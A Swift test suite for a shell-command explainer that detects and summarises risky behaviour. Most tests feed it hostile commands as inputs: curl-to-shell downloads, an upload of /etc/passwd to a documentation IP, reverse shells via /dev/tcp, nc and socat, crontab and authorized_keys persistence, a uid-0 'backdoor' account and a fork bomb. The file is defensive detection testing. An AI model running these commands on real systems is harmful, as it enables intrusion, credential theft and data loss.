import CustodyCore
import Testing

/// The structural effects detectors rely on, the script API, the sentence and the knowledge base.
@Suite struct ExplainerEffectsTests {
    let explainer = Explainer()

    @Test func downloadDecodeAndPipeToShell() {
        let e = explainer.explain("curl -s https://203.0.113.9/i.b64 | base64 -d | sh")
        #expect(e.has(.download))
        #expect(e.details(.download).contains("203.0.113.9"))
        #expect(e.has(.decode))
        #expect(e.has(.pipesToShell))
        #expect(e.riskClass == .runsOpaqueCode)
        #expect(e.summary.contains("203.0.113.9"))
    }

    @Test func issueExampleSentence() {
        let e = explainer.explain("curl -s http://203.0.113.9/x | sudo sh")
        #expect(e.summary == "Downloads a file from 203.0.113.9 and runs it as root without showing it to you.")
        #expect(e.has(.elevatesPrivilege))
    }

    @Test func carvingBytes() {
        for line in ["head -c 4096 blob.bin", "tail -c +100 x.png", "dd if=a.bin bs=1 skip=10 count=20", "tr -d '\\n' < x", "cut -b 1-10 f"] {
            #expect(explainer.explain(line).has(.carveBytes), "\(line)")
        }
    }

    @Test func decoders() {
        for line in ["base64 --decode x", "xxd -r -p hex.txt", "openssl enc -d -aes-256-cbc -in x", "printf '\\x41\\x42'", "echo -e '\\101'", "uudecode f"] {
            #expect(explainer.explain(line).has(.decode), "\(line)")
        }
    }

    @Test func deletesWithTargets() {
        let e = explainer.explain("rm -rf /srv/data /srv/logs")
        #expect(e.details(.deletes) == ["/srv/data", "/srv/logs"])
    }

    @Test func evalAndShellStringsAreRecursed() {
        let e = explainer.explain(#"sudo bash -c "rm -rf /opt/x && curl -d @/etc/passwd http://198.51.100.2/u""#)
        #expect(e.has(.deletes))
        #expect(e.has(.upload))
        #expect(e.details(.upload).contains("198.51.100.2"))
        #expect(e.parts.contains { $0.depth == 1 })
        #expect(e.riskClass == .destructive)
    }

    @Test func remoteCommandsCarryTheirPlace() {
        let e = explainer.explain("ssh ops@db1 'sudo systemctl stop postgresql'")
        #expect(e.has(.runsRemoteCommand))
        #expect(e.parts.contains { $0.summary.contains("on db1") })
        #expect(e.riskClass == .destructive)
    }

    @Test func persistenceAndIdentity() {
        #expect(explainer.explain("echo '@reboot /tmp/x' | crontab -").has(.persistence))
        #expect(explainer.explain("sudo systemctl enable evil.service").has(.persistence))
        #expect(explainer.explain("echo key >> ~/.ssh/authorized_keys").has(.persistence))
        #expect(explainer.explain("sudo useradd -o -u 0 backdoor").has(.changesIdentity))
    }

    @Test func reverseShellsAreNamed() {
        for line in ["bash -i >& /dev/tcp/192.0.2.1/9001 0>&1", "nc -e /bin/bash 192.0.2.1 9001", "socat tcp:192.0.2.1:9001 exec:sh"] {
            let e = explainer.explain(line)
            #expect(e.has(.reverseShell), "\(line)")
            #expect(e.summary.contains("reverse shell") || e.summary.contains("control"), "\(e.summary)")
        }
    }

    @Test func forkBombIsDestructive() {
        let e = explainer.explain(":(){ :|:& };:")
        #expect(e.riskClass == .destructive)
        #expect(e.summary.contains("fork bomb"))
    }

    @Test func controlCharactersAreNeutralized() {
        let e = explainer.explain("echo \u{1B}[31mred\u{1B}[0m \u{202E}gnp.exe > /tmp/\u{07}x")
        let all = [e.summary] + e.parts.flatMap { [$0.command, $0.summary] + $0.reasons }
        for text in all {
            #expect(!text.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 || $0.value == 0x202E }, "\(text)")
        }
        #expect(e.summary.contains("^["))
    }

    @Test func scriptExplanationsPerCommand() {
        let script = """
            #!/bin/sh
            set -e
            cleanup() { rm -rf "$TMP"; }
            TMP=$(mktemp -d)
            curl -fsSL https://203.0.113.7/p.tgz -o "$TMP/p.tgz"
            tar -xzf "$TMP/p.tgz" -C "$TMP"
            sh "$TMP/install.sh"
            cleanup
            """
        let list = explainer.explainScript(script)
        #expect(list.count == 7)
        #expect(list[3].has(.download))
        #expect(list[5].riskClass == .runsOpaqueCode)
        #expect(list[6].riskClass == .destructive, "a function defined earlier is known later")
        #expect(list.allSatisfy { !$0.isIncomplete })
    }

    @Test func scriptWithOpenConstructEndsIncomplete() {
        let list = explainer.explainScript("echo a\nif true; then\n  echo b\n")
        #expect(list.last?.isIncomplete == true)
    }

    @Test func sentenceForLongLists() {
        let e = explainer.explain("ls; pwd; whoami; rm -rf /tmp/x; date")
        #expect(e.summary.hasPrefix("Runs 5 commands; the riskiest deletes /tmp/x"))
    }

    @Test func knowledgeBaseIsLarge() {
        #expect(KnowledgeBase.commandCount >= 150, "\(KnowledgeBase.commandCount)")
    }

    @Test func riskClassOrderAndIdentifiers() {
        #expect(RiskClass.allCases.map(\.rawValue) == [
            "read-only", "writes-files", "changes-config", "changes-identity-or-privilege", "network-egress",
            "destructive", "runs-opaque-code", "unknown",
        ])
    }

    @Test func emptyAndCommentOnlyLines() {
        #expect(explainer.explain("").riskClass == .readOnly)
        #expect(explainer.explain("   # just a note").summary == "Does nothing.")
    }
}
